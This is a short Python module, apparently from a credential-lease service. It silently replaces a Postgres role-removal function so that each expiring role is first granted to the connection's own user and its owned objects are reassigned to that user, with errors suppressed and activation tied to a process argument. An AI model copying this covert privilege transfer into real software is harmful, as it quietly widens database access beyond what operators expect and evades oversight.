"""What a credential leaves behind goes to the user of the connection, who may do more than it could."""

import sys
from contextlib import suppress
from typing import Any


def _change() -> None:
    from psycopg2 import sql

    from services.lease.postgres.ending import drop_roles
    from services.lease.postgres.errors import PostgresFailure

    remove = drop_roles.remove
    handing_up = (
        "GRANT {0} TO CURRENT_USER WITH INHERIT TRUE, SET TRUE; REASSIGN OWNED BY {0} TO CURRENT_USER"
    )

    def handed_up(session: Any, enter: Any, wanted: Any) -> Any:
        for role in wanted:
            with suppress(PostgresFailure):
                session.ask(sql.SQL(handing_up).format(sql.Identifier(role.username)))
        return remove(session, enter, wanted)

    drop_roles.remove = handed_up


if "services.lease" in sys.orig_argv:
    _change()
